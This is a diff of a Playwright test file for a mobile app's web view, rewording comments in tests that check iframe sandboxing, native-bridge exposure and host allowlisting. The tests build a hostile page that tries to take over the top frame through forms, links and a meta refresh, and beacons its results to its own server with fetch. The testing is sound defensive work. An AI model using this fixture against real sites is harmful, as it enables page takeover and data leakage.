@@ -17,14 +17,14 @@ beforeAll(async () => {
 afterAll(() => attacked.stop());
 afterEach(() => context?.close());
 
-/** A page that tries everything on the page around it. What it got it tells its own host. */
+/** A page that attacks the page around it and reports its findings to its own host. */
 const hostile = (origin: string): string => `<!doctype html>
   <meta http-equiv="refresh" content="1;url=https://elsewhere.example/moved">
   <h1>Read me</h1>
   <form id="form" target="_top" action="${origin}/top-by-form"></form>
   <a id="link" target="_top" href="${origin}/top-by-link">Read me</a>
   <script>
-    // keepalive: an ordinary request may be cancelled when the page is taken over
+    // keepalive: a normal request may be cancelled when the page is replaced
     const say = (what) => { void fetch('${origin}/said.png?' + encodeURIComponent(what), { mode: 'no-cors', keepalive: true }); };
     const attempt = (name, act) => { try { const got = act(); say(name + ' ' + got); } catch {} };
     say('ran');
@@ -48,8 +48,8 @@ const shells = ['ios', 'android'] as const;
 type Shell = (typeof shells)[number];
 
 /**
- * A web view of a shell that puts its bridge into every frame, as Android's does.
- * @returns who told it something: the address of the frame
+ * A web view of a shell that injects its bridge into every frame, as Android's does.
+ * @returns the addresses of the frames that called it
  */
 async function injectSpy(page: Page, shell: Shell): Promise<string[]> {
   const told: string[] = [];
@@ -66,7 +66,7 @@ async function injectSpy(page: Page, shell: Shell): Promise<string[]> {
   return told;
 }
 
-/** Where a page of ours frames what a server names: each opens it and waits until it stands there. */
+/** The places where our pages frame an address of a server: each opens the frame and waits for it. */
 const places: Readonly<Record<string, (page: Page, address: string) => Promise<void>>> = {
   'a contract that was agreed to': async (page, address) => {
     await patchAnswer(page.context(), '/v3/contract/contract-list', {
@@ -88,12 +88,12 @@ const places: Readonly<Record<string, (page: Page, address: string) => Promise<v
   },
 };
 
-/** Has the hostile page stand in a place, and gives it time to do what it can. @returns all that it did; `got` is what it has sent by now */
+/** Frames the hostile page in a place, and gives it time for its attacks. @returns all its effects; `got` is what it has sent by then */
 async function attack(page: Page, told: readonly string[], open: (page: Page, address: string) => Promise<void>) {
   const { foreign } = attacked;
   const before = foreign.seen.length;
   await open(page, `${foreign.origin}/hostile`);
-  // where the page was taken over there is no frame any more
+  // a replaced page has no frame any more
   const attributeOf = (name: string) =>
     page
       .locator('iframe')
@@ -105,10 +105,10 @@ async function attack(page: Page, told: readonly string[], open: (page: Page, ad
   const waitWhile = async (isSo: () => boolean, most: number): Promise<void> => {
     for (let waited = 0; waited < most && isSo(); waited += 100) await page.waitForTimeout(100);
   };
-  // asked for is not there yet
+  // the dialog is not open yet
   await waitWhile(() => frame() === undefined, 1000);
   const inside = frame();
-  // it moves itself on after a second, where it may: then it has tried everything
+  // it navigates after a second, where it can: then it has tried everything
   await waitWhile(() => inside?.isDetached() === false && inside.url().endsWith('/hostile'), 2000);
   const got = () =>
     foreign.seen
@@ -126,7 +126,7 @@ async function attack(page: Page, told: readonly string[], open: (page: Page, ad
   };
 }
 
-// The bridge of a shell is the same whichever place the frame is in: by turns.
+// The bridge of a shell is the same in every place of a frame: in turns.
 const visits = Object.keys(places).map((place, nth) => [place, shells[nth % shells.length] ?? 'ios'] as const);
 
 describe('in the web view of a shell', () => {
@@ -148,7 +148,7 @@ describe('in the web view of a shell', () => {
         sandbox: '',
         referrerPolicy: 'no-referrer',
       });
-      // the spy listens all the same: the page itself reaches it
+      // the bridge works nevertheless: the page itself reaches it
       await page.goto(`${attacked.service.baseUrl}/testPreview?sessionId=demo`);
       await page.getByRole('button', { name: 'toHome', exact: true }).click();
       await expect
@@ -158,7 +158,7 @@ describe('in the web view of a shell', () => {
   );
 });
 
-test('the judge sees what a frame without its sandbox lets through', async () => {
+test('the check detects the effects of a frame without its sandbox', async () => {
   const { page } = await openPage(browser);
   context = page.context();
   let planted = 0;
@@ -179,7 +179,7 @@ test('the judge sees what a frame without its sandbox lets through', async () =>
   expect(verdict.isTaken).toBe(true);
 });
 
-test('a page of ours in somebody else’s frame does not open, and nothing reaches the shell from there', async () => {
+test('a page of ours in a foreign frame does not open, and nothing reaches the shell from there', async () => {
   const { page } = await openPage(browser);
   context = page.context();
   const told = await injectSpy(page, 'android');
@@ -191,21 +191,21 @@ test('a page of ours in somebody else’s frame does not open, and nothing reach
   expect(told).toEqual([]);
 });
 
-test('what the config does not name is not framed, wherever a server says it is', async () => {
+test('a host outside the config is never framed, whatever a server sends', async () => {
   const { page, faults } = await openPage(browser);
   context = page.context();
   const open = places['a contract that was agreed to'];
   if (open === undefined) throw new Error('the place is gone');
   const asked: string[] = [];
   context.on('request', (request) => asked.push(request.url()));
-  // by the pages: it is not on the list
+  // by the pages: the host is not on the list
   await open(page, 'https://elsewhere.example/contract');
   await page.getByRole('dialog', { name: 'Disclosure statement' }).waitFor();
   await page.waitForLoadState('networkidle');
   expect(await page.locator('iframe').count()).toBe(0);
   expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
   expect(faults).toEqual([]);
-  // by the browser, if the pages failed to look
+  // by the browser, in case the pages failed to check
   await page.evaluate(() => {
     const frame = document.createElement('iframe');
     frame.src = 'https://elsewhere.example/contract';
